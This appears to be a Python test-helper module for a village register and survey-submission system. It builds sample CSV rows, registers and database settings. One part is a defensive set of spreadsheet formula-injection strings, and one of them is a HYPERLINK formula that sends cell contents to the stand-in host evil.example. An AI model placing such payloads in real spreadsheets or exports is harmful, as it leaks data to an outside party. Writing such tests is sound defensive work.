"""Small hand-made registers and submissions for tests (the demo is too big for most)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from grassroots.catalog import load_catalog
from grassroots.config import Settings
from grassroots.hierarchy.registers import RegisterEntry, write_register

DALAT = "150621000000"
WANGAIZHAO = "150621108000"  # 王爱召镇
SHULINZHAO = "150621109000"  # 树林召镇

# Text a spreadsheet would take for a formula: OWASP's formula triggers at the start of a
# text, and openpyxl's error codes (a test id for each)
HOSTILE_CELL_TEXT = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "error-code": "#N/A",
}


def village_row(code: str, **overrides: object) -> dict[str, object]:
    """A village row that passes every rule of the village form."""
    row: dict[str, object] = {
        "unit_code": code,
        "unit_name": f"村{code[-3:]}",
        "zone_type": "farming",
        "star_rating": 7,
        "org_class": "1",
        "problem_type": "",
        "rectification": "none",
        "rectification_target": "no",
        "first_secretary": "no",
        "college_officials": 1,
        "helper_enterprises": 0,
        "dev_projects": 1,
        "committee_members": 7,
        "committee_avg_age": 45.0,
        "secretary_age": 50,
        "committee_college": 2,
        "committee_female": 2,
        "party_members": 40,
        "new_party_members": 1,
        "office_funding": 5,
        "activity_funding": 1.2,
        "venue_area": 260,
        "venue_built": "no",
        "income_operating": 10.5,
        "income_net": 8.25,
        "collective_assets": 120,
    }
    row.update(overrides)
    return row


def write_csv(path: Path, form_code: str, rows: list[dict[str, object]], encoding: str = "utf-8-sig") -> Path:
    form = load_catalog().forms[form_code]
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(form.field_codes)
        for row in rows:
            writer.writerow([row.get(code, "") for code in form.field_codes])
    return path


def small_register(landing: Path, villages: list[RegisterEntry], county: str = DALAT) -> Path:
    """A county's register of ``villages`` in the landing folder (Dalat's unless told)."""
    return_path = landing / f"register__{county}.csv"
    write_register(return_path, villages)
    return return_path


def village(code_suffix: int, township: str = WANGAIZHAO, valid_from: int = 2010,
            valid_to: int | None = None, predecessors: tuple[str, ...] = ()) -> RegisterEntry:
    code = f"{township[:9]}{code_suffix:03d}"
    return RegisterEntry(code, f"村{code_suffix}", township, "farming", valid_from, valid_to, predecessors)


def new_warehouse_url(warehouse: str, tmp_path: Path, request: pytest.FixtureRequest,
                      name: str = "w") -> str:
    """The URL of a new, empty warehouse of the kind named ("sqlite" or "postgres"; a
    PostgreSQL one is a new database, skipped where there is no server). SQLite's is the
    file ``name`` under ``tmp_path``."""
    if warehouse == "sqlite":
        return f"sqlite:///{tmp_path / f'{name}.sqlite'}"
    return request.getfixturevalue("new_postgres_url")()


# A warehouse fixture's params: each test on SQLite and on PostgreSQL (marked, so that
# `-m "not postgres"` leaves it out)
WAREHOUSES = ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]


def new_settings(request: pytest.FixtureRequest, tmp_path: Path) -> Settings:
    """Settings on a new, empty warehouse of the kind ``request.param`` names
    (:func:`new_warehouse_url`), its data folder ``tmp_path / "data"``."""
    return Settings.from_env(warehouse_url=new_warehouse_url(request.param, tmp_path, request),
                             data_dir=tmp_path / "data")
